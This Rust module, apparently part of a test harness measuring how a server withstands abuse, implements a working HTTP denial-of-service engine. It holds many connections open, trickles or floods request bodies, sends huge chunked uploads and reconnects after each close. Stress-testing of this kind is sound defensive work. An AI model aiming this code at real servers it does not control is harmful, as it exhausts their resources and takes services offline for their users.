//! The attacker: many connections on one mio `Poll`, each sending one request shaped by a
//! [`Plan`] — all at once, a trickle of body bytes, a long chunked body, or the same bytes
//! again and again (a chat flood) — and then either
//! never reading the answer or reading it to the end.
//!
//! The request is seen as one byte stream, the *wire*: the head, then the body as the plan
//! frames it. A connection only keeps how far along the wire it is (`sent`) and how far it
//! may go by now (`due`), so a 16 MiB chunked body costs no memory: its bytes are sliced out
//! of one prebuilt 64 KiB frame.
//!
//! A connection the server closes (or that fails to connect) is opened again after the plan's
//! back-off when the plan says [`Again::Reconnect`], as a persistent attacker would keep its
//! count up; with [`Again::Once`] it is done, and the swarm ends early once all are done.
//! A connection that never reads cannot see the server's FIN behind unread data; it notices
//! only a close that reaches it (an answer and FIN that fit its receive buffer, or a reset).

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};

/// How the body follows the head on the wire.
pub enum Body {
    /// No body: the head is the whole request.
    None,
    /// `len` bytes announced by the head's `Content-Length`, of which `bytes` are sent every
    /// `every` (the first right after the head).
    Trickle {
        len: usize,
        every: Duration,
        bytes: usize,
    },
    /// `len` bytes in `Transfer-Encoding: chunked`, sent as fast as the server takes them,
    /// in chunks of [`CHUNK`] bytes, then the last chunk.
    Chunked { len: usize },
    /// These bytes again and again, as fast as the server takes them, until the attack ends
    /// (chat lines to a room).
    Repeat(Vec<u8>),
}

/// The data size of one chunk of a [`Body::Chunked`] body.
pub const CHUNK: usize = 64 * 1024;

/// What a connection does with the answer.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Reading {
    /// Never reads: the answer piles up in the socket buffers and the server.
    Never,
    /// Reads until the server closes (requests say `Connection: close`).
    ToEof,
}

/// What a connection does once its exchange is over (answer read, or closed by the server).
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Again {
    /// Open a new connection after the back-off and send the request again.
    Reconnect,
    /// Stop.
    Once,
}

/// One attack: how many connections, and what each of them sends and reads.
pub struct Plan {
    /// Connections kept (or, with [`Again::Once`], made).
    pub conns: usize,
    /// The request head, ending with the empty line.
    pub head: Vec<u8>,
    /// The body after the head.
    pub body: Body,
    /// What is done with the answer.
    pub reading: Reading,
    /// What is done after the exchange.
    pub again: Again,
    /// Pause before a connection is opened again.
    pub backoff: Duration,
}

/// What the attack did: evidence that it happened at the size asked.
#[derive(Default)]
pub struct Tally {
    /// Connections established.
    pub connects: u64,
    /// Connection attempts that failed (refused, reset before established, …).
    pub connect_errors: u64,
    /// Most connections established at once.
    pub peak_open: usize,
    /// Request bytes written.
    pub bytes_out: u64,
    /// Answer bytes read.
    pub bytes_in: u64,
    /// Connections closed by the server (FIN or reset seen) before the attacker was done.
    pub server_closes: u64,
    /// Answers read to the end, by status code (0: no status line).
    pub answers: BTreeMap<u16, u64>,
    /// UDP datagrams sent (by a flood beside the swarms).
    pub datagrams: u64,
    /// HTTP/2 frames queued to send (an HTTP/2 attack).
    pub frames: u64,
    /// GOAWAY frames received, by error code (an HTTP/2 attack).
    pub goaways: BTreeMap<u32, u64>,
}

impl Tally {
    /// Adds another swarm's tally to this one (peaks add up: the swarms ran together).
    pub fn merge(&mut self, other: Tally) {
        self.connects += other.connects;
        self.connect_errors += other.connect_errors;
        self.peak_open += other.peak_open;
        self.bytes_out += other.bytes_out;
        self.bytes_in += other.bytes_in;
        self.server_closes += other.server_closes;
        for (code, n) in other.answers {
            *self.answers.entry(code).or_default() += n;
        }
        self.datagrams += other.datagrams;
        self.frames += other.frames;
        for (code, n) in other.goaways {
            *self.goaways.entry(code).or_default() += n;
        }
    }

    /// One line for the table: "peak 250 open, 312 connects, 0.1 MB out, 0 MB in, 200×20".
    pub fn summary(&self) -> String {
        let mb = |b: u64| {
            if b >= 10_000_000 {
                format!("{:.0} MB", b as f64 / 1e6)
            } else {
                format!("{:.1} MB", b as f64 / 1e6)
            }
        };
        let mut s = format!(
            "peak {} open, {} conn., {} out, {} in",
            self.peak_open,
            self.connects,
            mb(self.bytes_out),
            mb(self.bytes_in)
        );
        if self.connect_errors > 0 {
            s += &format!(", {} conn. failed", self.connect_errors);
        }
        if self.server_closes > 0 {
            s += &format!(", {} closed by server", self.server_closes);
        }
        if self.datagrams > 0 {
            s += &format!(", {} datagrams", self.datagrams);
        }
        if self.frames > 0 {
            s += &format!(", {} frames", self.frames);
        }
        for (code, n) in &self.goaways {
            s += &format!(", {n}× GOAWAY {}", crate::h2::code_name(*code));
        }
        for (code, n) in &self.answers {
            match code {
                // A chat member, or a connection the server ended before any answer.
                0 => s += &format!(", {n} ended by server"),
                _ => s += &format!(", {n}× {code}"),
            }
        }
        s
    }
}

/// Where one connection stands.
enum Phase {
    /// Not connected; (re)connect at this instant.
    Waiting(Instant),
    /// Connect in progress.
    Connecting,
    /// Established: sending what is due, reading per the plan.
    Open,
    /// Finished ([`Again::Once`]).
    Done,
}

/// One attacking connection.
struct Conn {
    stream: Option<TcpStream>,
    phase: Phase,
    /// Wire bytes written so far.
    sent: usize,
    /// Wire bytes that may be written by now (a trickle raises it over time).
    due: usize,
    /// When a trickle next raises `due`.
    next_trickle: Instant,
    /// The first bytes of the answer, for its status code.
    status_line: Vec<u8>,
    /// Answer bytes read on this connection.
    got: u64,
}

/// The request as one byte stream, sliced out of a few shared buffers.
struct Wire {
    head: Vec<u8>,
    /// 'a' bytes, the content of a trickled body.
    filler: Vec<u8>,
    /// One chunk frame: size line, [`CHUNK`] bytes, CRLF.
    frame: Vec<u8>,
    frames: usize,
    /// What a [`Body::Repeat`] repeats, many times over (empty for other bodies).
    unit: Vec<u8>,
    /// Bytes after the head.
    body_len: usize,
}

const LAST_CHUNK: &[u8] = b"0\r\n\r\n";

impl Wire {
    fn new(plan: &Plan) -> Wire {
        let mut frame = format!("{CHUNK:x}\r\n").into_bytes();
        frame.resize(frame.len() + CHUNK, b'x');
        frame.extend_from_slice(b"\r\n");
        let (frames, body_len) = match &plan.body {
            Body::None => (0, 0),
            Body::Trickle { len, .. } => (0, *len),
            Body::Chunked { len } => {
                let n = len / CHUNK;
                (n, n * frame.len() + LAST_CHUNK.len())
            }
            // Never reached in an attack's time.
            Body::Repeat(_) => (0, usize::MAX / 2),
        };
        // The unit repeated up to 64 KiB, so that one write sends many of them.
        let unit = match &plan.body {
            Body::Repeat(unit) if !unit.is_empty() => unit.repeat((64 * 1024 / unit.len()).max(1)),
            _ => Vec::new(),
        };
        Wire {
            head: plan.head.clone(),
            filler: vec![b'a'; 64 * 1024],
            frame,
            frames,
            unit,
            body_len,
        }
    }

    fn len(&self) -> usize {
        self.head.len() + self.body_len
    }

    /// The wire from `pos` on, as far as one buffer reaches.
    fn slice(&self, pos: usize, chunked: bool) -> &[u8] {
        if pos < self.head.len() {
            return &self.head[pos..];
        }
        let b = pos - self.head.len();
        if !self.unit.is_empty() {
            return &self.unit[b % self.unit.len()..];
        }
        if !chunked {
            let n = (self.body_len - b).min(self.filler.len());
            return &self.filler[..n];
        }
        let framed = self.frames * self.frame.len();
        if b < framed {
            &self.frame[b % self.frame.len()..]
        } else {
            &LAST_CHUNK[b - framed..]
        }
    }
}

/// Runs the attack until `until`, or until every connection is done ([`Again::Once`]).
/// Every socket is closed when this returns.
pub fn run(addr: SocketAddr, plan: &Plan, until: Instant) -> std::io::Result<Tally> {
    let mut poll = Poll::new()?;
    let mut events = Events::with_capacity(4096);
    let wire = Wire::new(plan);
    let chunked = matches!(plan.body, Body::Chunked { .. });
    let start = Instant::now();
    let mut conns: Vec<Conn> = (0..plan.conns)
        .map(|_| Conn {
            stream: None,
            phase: Phase::Waiting(start),
            sent: 0,
            due: 0,
            next_trickle: start,
            status_line: Vec::with_capacity(16),
            got: 0,
        })
        .collect();
    let mut tally = Tally::default();
    let mut open = 0usize;
    let mut scratch = vec![0u8; 256 * 1024];

    loop {
        let now = Instant::now();
        // No connections at all (the control run) lasts until `until`.
        let all_done = !conns.is_empty() && conns.iter().all(|c| matches!(c.phase, Phase::Done));
        if now >= until || all_done {
            break;
        }
        // Timers: connections due to (re)connect, trickles due to send more.
        for (i, c) in conns.iter_mut().enumerate() {
            match c.phase {
                Phase::Waiting(at) if at <= now => match TcpStream::connect(addr) {
                    Ok(mut s) => {
                        poll.registry().register(
                            &mut s,
                            Token(i),
                            Interest::READABLE | Interest::WRITABLE,
                        )?;
                        c.stream = Some(s);
                        c.phase = Phase::Connecting;
                    }
                    Err(_) => {
                        tally.connect_errors += 1;
                        c.phase =
                            Phase::Waiting(now + plan.backoff.max(Duration::from_millis(100)));
                    }
                },
                Phase::Open => {
                    if let Body::Trickle { every, bytes, .. } = plan.body
                        && now >= c.next_trickle
                    {
                        c.due = (c.due + bytes).min(wire.len());
                        c.next_trickle = now + every;
                        if send(c, &wire, chunked, &mut tally).is_err() {
                            tally.server_closes += 1;
                            close(c, plan, &mut open, now);
                        }
                    }
                }
                _ => {}
            }
        }
        let wait = until
            .saturating_duration_since(Instant::now())
            .min(Duration::from_millis(10));
        match poll.poll(&mut events, Some(wait)) {
            Ok(()) => {}
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(e) => return Err(e),
        }
        let now = Instant::now();
        for ev in events.iter() {
            let c = &mut conns[ev.token().0];
            // A stale event for a connection closed earlier in this batch.
            let Some(s) = c.stream.as_mut() else { continue };
            if let Phase::Connecting = c.phase {
                let failed = match s.take_error() {
                    Ok(Some(_)) | Err(_) => true,
                    Ok(None) => match s.peer_addr() {
                        Ok(_) => false,
                        Err(e) if e.kind() == ErrorKind::NotConnected => continue,
                        Err(_) => true,
                    },
                };
                if failed {
                    tally.connect_errors += 1;
                    c.stream = None;
                    c.phase = Phase::Waiting(now + plan.backoff.max(Duration::from_millis(100)));
                    continue;
                }
                tally.connects += 1;
                open += 1;
                tally.peak_open = tally.peak_open.max(open);
                c.phase = Phase::Open;
                c.sent = 0;
                c.got = 0;
                c.status_line.clear();
                c.due = match plan.body {
                    Body::Trickle { every, bytes, .. } => {
                        c.next_trickle = now + every;
                        wire.head.len() + bytes
                    }
                    _ => wire.len(),
                };
            }
            let mut over = false;
            if send(c, &wire, chunked, &mut tally).is_err() {
                tally.server_closes += 1;
                over = true;
            } else if plan.reading == Reading::ToEof {
                match drain(c, &mut scratch, &mut tally) {
                    Ok(true) => {
                        let code = status(&c.status_line);
                        *tally.answers.entry(code).or_default() += 1;
                        over = true;
                    }
                    Ok(false) => {}
                    Err(_) => {
                        tally.server_closes += 1;
                        over = true;
                    }
                }
            } else if ev.is_read_closed() || ev.is_error() {
                tally.server_closes += 1;
                over = true;
            }
            if over {
                close(c, plan, &mut open, now);
            }
        }
    }
    // Dropping `conns` closes every socket.
    Ok(tally)
}

/// Writes what is due, up to `WouldBlock`.
fn send(c: &mut Conn, wire: &Wire, chunked: bool, tally: &mut Tally) -> std::io::Result<()> {
    let Some(s) = c.stream.as_mut() else {
        return Ok(());
    };
    while c.sent < c.due {
        let piece = wire.slice(c.sent, chunked);
        let piece = &piece[..piece.len().min(c.due - c.sent)];
        match s.write(piece) {
            Ok(0) => return Err(ErrorKind::WriteZero.into()),
            Ok(n) => {
                c.sent += n;
                tally.bytes_out += n as u64;
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

/// Reads up to `WouldBlock`; `Ok(true)` at the end of the answer (the server closed after it).
fn drain(c: &mut Conn, scratch: &mut [u8], tally: &mut Tally) -> std::io::Result<bool> {
    let Some(s) = c.stream.as_mut() else {
        return Ok(false);
    };
    loop {
        match s.read(scratch) {
            // A close before any answer is the server dropping the connection.
            Ok(0) if c.got == 0 => return Err(ErrorKind::UnexpectedEof.into()),
            Ok(0) => return Ok(true),
            Ok(n) => {
                if c.status_line.len() < 12 {
                    let take = (12 - c.status_line.len()).min(n);
                    c.status_line.extend_from_slice(&scratch[..take]);
                }
                c.got += n as u64;
                tally.bytes_in += n as u64;
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => return Ok(false),
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
}

/// Closes the connection and schedules what the plan says comes next.
fn close(c: &mut Conn, plan: &Plan, open: &mut usize, now: Instant) {
    c.stream = None;
    *open -= 1;
    c.phase = match plan.again {
        Again::Reconnect => Phase::Waiting(now + plan.backoff),
        Again::Once => Phase::Done,
    };
}

/// The status code of "HTTP/1.1 200 …", or 0.
pub fn status(line: &[u8]) -> u16 {
    line.get(9..12)
        .and_then(|d| std::str::from_utf8(d).ok())
        .and_then(|d| d.parse().ok())
        .unwrap_or(0)
}
